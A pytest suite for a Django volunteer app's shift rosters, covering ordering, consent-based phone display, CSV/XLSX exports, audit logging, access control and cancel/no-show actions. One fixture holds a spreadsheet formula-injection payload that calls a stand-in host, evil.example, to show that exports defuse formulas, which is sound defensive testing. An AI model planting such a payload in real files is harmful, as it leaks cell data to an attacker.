"""Rosters of shifts: who is coming, the waitlist, phones only where shared, exports that open
in Excel without running anything, and the roster's actions (did not come, cancel)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from ataa.core.models import AuditEvent, OutboxMessage
from ataa.opportunities import services
from ataa.opportunities.models import Application, ApplicationQuestion
from ataa.opportunities.roster import defuse, roster_for
from conftest import table_state

pytestmark = pytest.mark.django_db

A = Application.Status
BOM = b"\xef\xbb\xbf"
NASTY_ANSWER = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def shift(soon, make_shift):
    return make_shift(soon, capacity=3)


@pytest.fixture
def question(soon):
    return ApplicationQuestion.objects.create(
        opportunity=soon,
        position=1,
        text_ar="ما مقاس قميصك؟",
        text_en="Your shirt size?",
        required=False,
    )


def apply(volunteer, opportunity, shift=None, answers=None):
    return services.application_submit(
        volunteer=volunteer, opportunity=opportunity, shift=shift, answers=answers or {}
    )


@pytest.fixture
def crew(soon, shift, question, make_volunteer, coordinator):
    """Two accepted volunteers (one shares the phone) and two on the waitlist."""
    sharing = make_volunteer(
        "sharing",
        full_name_ar="يوسف العمري",
        phone="+966551112233",
        share_phone_with_organizations=True,
    )
    private = make_volunteer("private", full_name_ar="بدر القرني", phone="+966559998877")
    first_waiting = make_volunteer("wait1", full_name_ar="سلمى الغامدي")
    second_waiting = make_volunteer("wait2", full_name_ar="هند الشهري")
    accepted = [
        apply(sharing, soon, shift, {str(question.pk): NASTY_ANSWER}),
        apply(private, soon, shift, {str(question.pk): "L"}),
    ]
    for application in accepted:
        services.application_accept(application=application, decided_by=coordinator)
    waiting = [apply(first_waiting, soon, shift), apply(second_waiting, soon, shift)]
    for application in waiting:
        services.application_waitlist(application=application, decided_by=coordinator)
    return {"accepted": accepted, "waiting": waiting}


def roster_url(organization, opportunity, shift):
    return f"/orgs/{organization.pk}/opportunities/{opportunity.pk}/shifts/{shift.pk}/roster/"


# --- The roster page --------------------------------------------------------------------------


def test_roster_lists_accepted_by_name_then_the_waitlist_in_order(
    client, coordinator, organization, soon, shift, crew
):
    client.force_login(coordinator)
    response = client.get(roster_url(organization, soon, shift))
    assert response.status_code == 200
    page = response.content.decode()
    # Accepted, sorted by name (ب before ي), then the waitlist in the order of applying.
    positions = [page.index(name) for name in ("بدر القرني", "يوسف العمري", "سلمى الغامدي")]
    assert positions == sorted(positions)
    assert page.index("سلمى الغامدي") < page.index("هند الشهري")
    assert "Your shirt size?" in page or "ما مقاس قميصك؟" in page


def test_phone_only_where_the_volunteer_shares_it(
    client, coordinator, organization, soon, shift, crew
):
    client.force_login(coordinator)
    page = client.get(roster_url(organization, soon, shift)).content.decode()
    assert "+966551112233" in page
    assert "+966559998877" not in page
    roster = roster_for(opportunity=soon, shift=shift)
    phones = {row.name: row.phone for row in roster.rows}
    assert phones["يوسف العمري"] == "+966551112233"
    assert phones["بدر القرني"] is None


def test_no_show_is_offered_only_after_the_start(
    client, coordinator, organization, soon, shift, crew
):
    client.force_login(coordinator)
    page = client.get(roster_url(organization, soon, shift)).content.decode()
    assert "/no-show/" not in page  # the shift is 60 days away
    assert "/cancel/" in page


# --- Exports ----------------------------------------------------------------------------------


def test_csv_export_has_a_bom_the_rows_and_defused_formulas(
    client, coordinator, organization, soon, shift, crew
):
    client.force_login(coordinator)
    response = client.get(roster_url(organization, soon, shift) + "export/?format=csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    day = timezone.localdate(shift.starts_at).isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="roster-shift-{shift.pk}-{day}.csv"'
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response.content.startswith(BOM)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert len(header) == 8  # seven columns and the one question
    assert len(body) == 4
    names = [row[2] for row in body]
    assert names == ["بدر القرني", "يوسف العمري", "سلمى الغامدي", "هند الشهري"]
    by_name = {row[2]: row for row in body}
    sharing = by_name["يوسف العمري"]
    assert sharing[5] == "'+966551112233"  # a leading + is defused too
    assert sharing[7] == "'" + NASTY_ANSWER
    assert by_name["بدر القرني"][5] not in {"+966559998877", "'+966559998877"}
    assert by_name["بدر القرني"][7] == "L"
    assert [row[0] for row in body] == ["1", "2", "1", "2"]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_is_defused(value):
    assert defuse(value) == "'" + value
    assert defuse("1-1") == "1-1" and defuse(7) == 7


def test_xlsx_export_is_right_to_left_in_arabic_bold_header_text_cells(
    client, coordinator, organization, soon, shift, crew
):
    client.force_login(coordinator)
    response = client.get(roster_url(organization, soon, shift) + "export/?format=xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert f"roster-shift-{shift.pk}-" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.sheet_view.rightToLeft is True
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.column_dimensions["C"].width >= 20
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [row[2] for row in rows] == ["بدر القرني", "يوسف العمري", "سلمى الغامدي", "هند الشهري"]
    nasty = next(cell for cell in sheet["H"] if cell.value == NASTY_ANSWER)
    assert nasty.data_type == "s"  # text, not a formula
    phone = next(cell for cell in sheet["F"] if cell.value == "+966551112233")
    assert phone.data_type == "s"
    assert isinstance(rows[0][4], int)  # the party size stays a number


def test_xlsx_is_left_to_right_in_english(client, coordinator, organization, soon, shift, crew):
    coordinator.preferred_language = "en"
    coordinator.save(update_fields=["preferred_language"])
    client.force_login(coordinator)
    response = client.get(roster_url(organization, soon, shift) + "export/?format=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert not sheet.sheet_view.rightToLeft
    assert sheet["A1"].value == "Number"


def test_export_is_audited_without_names(client, coordinator, organization, soon, shift, crew):
    client.force_login(coordinator)
    client.get(roster_url(organization, soon, shift) + "export/?format=xlsx")
    event = AuditEvent.objects.get(verb="roster.exported")
    assert event.organization_id == organization.pk
    assert event.payload == {
        "opportunity_id": soon.pk,
        "shift_id": shift.pk,
        "format": "xlsx",
        "rows": 4,
    }
    assert event.target_id == str(shift.pk)


def test_an_unknown_format_is_a_message_not_a_file(
    client, coordinator, organization, soon, shift, crew
):
    client.force_login(coordinator)
    before = AuditEvent.objects.count()
    response = client.get(roster_url(organization, soon, shift) + "export/?format=pdf", follow=True)
    assert response.status_code == 200
    assert response.redirect_chain[-1][0] == roster_url(organization, soon, shift)
    assert AuditEvent.objects.count() == before


def test_roster_of_an_opportunity_without_shifts(
    client, coordinator, organization, soon, volunteer
):
    application = apply(volunteer, soon)
    services.application_accept(application=application, decided_by=coordinator)
    client.force_login(coordinator)
    base = f"/orgs/{organization.pk}/opportunities/{soon.pk}/roster/"
    assert "ريم الدوسري" in client.get(base).content.decode()
    response = client.get(base + "export/?format=csv")
    assert response["Content-Disposition"] == (
        f'attachment; filename="roster-opportunity-{soon.pk}-{soon.starts_on.isoformat()}.csv"'
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[2] for row in rows[1:]] == ["ريم الدوسري"]


def _count_queries(client, url) -> int:
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


def test_roster_page_and_export_query_counts_do_not_grow_with_rows(
    client,
    coordinator,
    organization,
    soon,
    make_shift,
    make_volunteer,
    question,
    django_assert_num_queries,
):
    small = make_shift(soon, capacity=10, hour=8)
    large = make_shift(soon, capacity=10, hour=12)
    one = apply(make_volunteer("solo"), soon, small, {str(question.pk): "M"})
    services.application_accept(application=one, decided_by=coordinator)
    for number in range(6):
        application = apply(make_volunteer(f"many{number}"), soon, large)
        if number < 4:
            services.application_accept(application=application, decided_by=coordinator)
        else:
            services.application_waitlist(application=application, decided_by=coordinator)
    client.force_login(coordinator)
    for suffix in ("", "export/?format=csv", "export/?format=xlsx"):
        one_row = _count_queries(client, roster_url(organization, soon, small) + suffix)
        with django_assert_num_queries(one_row):  # six rows, four accepted and two waiting
            client.get(roster_url(organization, soon, large) + suffix)


# --- Who may see it ---------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", ["", "export/?format=csv", "export/?format=xlsx"])
def test_outsiders_get_404_and_case_workers_and_auditors_403(
    client, organization, soon, shift, crew, outsider, case_worker, auditor, suffix
):
    url = roster_url(organization, soon, shift) + suffix
    before = AuditEvent.objects.count()
    client.force_login(outsider)
    assert client.get(url).status_code == 404
    for member in (case_worker, auditor):
        client.force_login(member)
        assert client.get(url).status_code == 403
    assert AuditEvent.objects.count() == before


def test_a_shift_of_another_organization_or_opportunity_is_404(
    client,
    coordinator,
    organization,
    soon,
    shift,
    make_opportunity,
    make_shift,
    outsider,
    other_organization,
):
    foreign = make_opportunity(
        org=other_organization, by=outsider, starts_on=soon.starts_on, ends_on=soon.ends_on
    )
    foreign_shift = services.shift_create(
        opportunity=foreign,
        created_by=outsider,
        starts_at=shift.starts_at,
        ends_at=shift.ends_at,
        capacity=1,
    )
    sibling = make_opportunity()
    sibling_shift = make_shift(sibling)
    client.force_login(coordinator)
    before = AuditEvent.objects.count()
    base = f"/orgs/{organization.pk}/opportunities/{soon.pk}/shifts/"
    for other in (foreign_shift, sibling_shift):
        assert client.get(f"{base}{other.pk}/roster/").status_code == 404
        assert client.get(f"{base}{other.pk}/roster/export/?format=csv").status_code == 404
    assert AuditEvent.objects.count() == before


# --- Actions ----------------------------------------------------------------------------------


def action_url(organization, opportunity, application, action):
    return (
        f"/orgs/{organization.pk}/opportunities/{opportunity.pk}/applications/"
        f"{application.pk}/{action}/"
    )


def test_cancel_with_a_reason_frees_the_place_for_the_waitlist(
    client, coordinator, organization, soon, shift, crew
):
    client.force_login(coordinator)
    cancelled = crew["accepted"][0]
    response = client.post(
        action_url(organization, soon, cancelled, "cancel"), {"reason": "volunteer_asked"}
    )
    assert response.status_code == 302
    assert response["Location"] == roster_url(organization, soon, shift)
    cancelled.refresh_from_db()
    assert cancelled.status == A.CANCELLED
    assert cancelled.cancel_reason == "volunteer_asked"
    event = AuditEvent.objects.get(verb="application.cancelled")
    assert event.payload["reason"] == "volunteer_asked"
    first_waiting = crew["waiting"][0]
    first_waiting.refresh_from_db()
    assert first_waiting.status == A.ACCEPTED  # freed places go to the waitlist, in order


def test_cancel_for_another_reason_needs_a_note_and_keeps_it_out_of_the_audit(
    client, coordinator, organization, soon, shift, crew
):
    client.force_login(coordinator)
    application = crew["waiting"][0]
    state = table_state(Application, AuditEvent, OutboxMessage)
    client.post(action_url(organization, soon, application, "cancel"), {"reason": "other"})
    client.post(action_url(organization, soon, application, "cancel"), {"reason": "nonsense"})
    client.post(action_url(organization, soon, application, "cancel"), {})
    assert table_state(Application, AuditEvent, OutboxMessage) == state
    client.post(
        action_url(organization, soon, application, "cancel"),
        {"reason": "other", "note": "نقص في الحافلات"},
    )
    application.refresh_from_db()
    assert application.status == A.CANCELLED
    assert application.cancel_note == "نقص في الحافلات"
    event = AuditEvent.objects.get(verb="application.cancelled")
    assert "نقص" not in str(event.payload)


def test_cancel_and_no_show_are_refused_to_others_and_change_nothing(
    client, organization, soon, shift, crew, outsider, case_worker, auditor
):
    application = crew["accepted"][0]
    state = table_state(Application, AuditEvent, OutboxMessage)
    for user, status in ((outsider, 404), (case_worker, 403), (auditor, 403)):
        client.force_login(user)
        for action in ("cancel", "no-show"):
            response = client.post(
                action_url(organization, soon, application, action), {"reason": "other"}
            )
            assert response.status_code == status
    assert table_state(Application, AuditEvent, OutboxMessage) == state


def test_no_show_before_the_start_is_refused_and_after_it_recorded(
    client, coordinator, organization, make_opportunity, make_shift, make_volunteer
):
    today = timezone.localdate()
    opportunity = make_opportunity(
        starts_on=today - dt.timedelta(days=2), ends_on=today + dt.timedelta(days=10)
    )
    past = make_shift(opportunity, day=today - dt.timedelta(days=1))
    future = make_shift(opportunity, day=today + dt.timedelta(days=5))
    came_not, later = make_volunteer("past"), make_volunteer("future")
    gone = apply(came_not, opportunity, past)
    coming = apply(later, opportunity, future)
    for application in (gone, coming):
        services.application_accept(application=application, decided_by=coordinator)
    client.force_login(coordinator)
    state = table_state(Application, AuditEvent)
    client.post(action_url(organization, opportunity, coming, "no-show"))
    assert table_state(Application, AuditEvent) == state
    page = client.get(roster_url(organization, opportunity, past)).content.decode()
    assert action_url(organization, opportunity, gone, "no-show") in page
    response = client.post(action_url(organization, opportunity, gone, "no-show"))
    assert response["Location"] == roster_url(organization, opportunity, past)
    gone.refresh_from_db()
    assert gone.status == A.NO_SHOW


# --- Fill rates -------------------------------------------------------------------------------


def test_fill_rates_per_opportunity_and_per_shift(
    client, coordinator, auditor, organization, soon, make_opportunity, make_shift, make_volunteer
):
    morning, evening = make_shift(soon, capacity=3, hour=8), make_shift(soon, capacity=2, hour=14)
    group = make_volunteer("group", is_group=True, party_size=2)
    for user, shift in ((group, morning), (make_volunteer("solo"), evening)):
        services.application_accept(application=apply(user, soon, shift), decided_by=coordinator)
    without_shifts = make_opportunity(capacity=4)
    services.application_accept(
        application=apply(make_volunteer("alone"), without_shifts), decided_by=coordinator
    )
    from ataa.opportunities.selectors import organization_opportunity_list, shift_list

    fills = {
        opportunity.pk: (opportunity.accepted, opportunity.places_offered)
        for opportunity in organization_opportunity_list(organization=organization)
    }
    assert fills[soon.pk] == (3, 5)  # the places of its shifts, not its own capacity
    assert fills[without_shifts.pk] == (1, 4)
    assert [(s.taken, s.capacity) for s in shift_list(opportunity=soon)] == [(2, 3), (1, 2)]
    for person in (auditor, coordinator):
        person.preferred_language = "en"
        person.save(update_fields=["preferred_language"])
    client.force_login(auditor)  # read-only members see the fill rates too
    page = client.get(f"/orgs/{organization.pk}/opportunities/{soon.pk}/shifts/").content.decode()
    assert "2 of 3" in page and "1 of 2" in page
    assert "/roster/" not in page  # but not the rosters
    client.force_login(coordinator)
    page = client.get(f"/orgs/{organization.pk}/opportunities/{soon.pk}/shifts/").content.decode()
    assert f"/shifts/{morning.pk}/roster/" in page
    listing = client.get(f"/orgs/{organization.pk}/opportunities/").content.decode()
    assert "3 of 5" in listing and "1 of 4" in listing
